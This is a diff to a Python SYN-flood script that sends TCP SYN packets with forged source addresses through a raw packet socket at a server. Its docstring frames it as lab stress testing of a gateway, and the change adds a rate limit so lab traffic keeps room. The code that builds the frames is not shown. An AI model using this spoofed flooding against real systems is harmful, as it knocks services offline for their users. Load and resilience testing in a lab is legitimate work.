@@ -1,8 +1,8 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: Apache-2.0
-"""synflood.py INTERFACE VLAN DESTINATION PORT SECONDS MAC: SYNs with forged sources to a server of the lab, as fast
-as a packet socket takes them, to the next hop of this MAC; VLAN 0: untagged. Prints how many. Traffic stays in the
-lab."""
+"""synflood.py INTERFACE VLAN DESTINATION PORT SECONDS MAC: SYNs with forged sources to a server of the lab, to the
+next hop of this MAC; VLAN 0: untagged. Prints how many. At a rate that leaves the lab's own ends room to talk: how
+much the gateway bears is the storms' question. Traffic stays in the lab."""
 import ipaddress
 import random
 import socket
@@ -11,6 +11,7 @@ import sys
 import time
 
 SOURCES = 20000  # frames made before; the ports vary with them
+RATE, BURST = 25000, 250  # a second; at once
 
 
 def checksum(data):
@@ -47,9 +48,13 @@ def main():
     frames = [frame(link, destination, port) for _ in range(SOURCES)]
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     out.bind((interface, 0))
-    sent, end = 0, time.monotonic() + seconds
-    while time.monotonic() < end:
-        for one in frames[sent % SOURCES:][:500]:
+    sent, start = 0, time.monotonic()
+    while (passed := time.monotonic() - start) < seconds:
+        if sent > passed * RATE:
+            time.sleep(BURST / RATE / 2)
+            continue
+        at = sent % SOURCES
+        for one in frames[at:at + BURST]:
             try:
                 out.send(one)
                 sent += 1
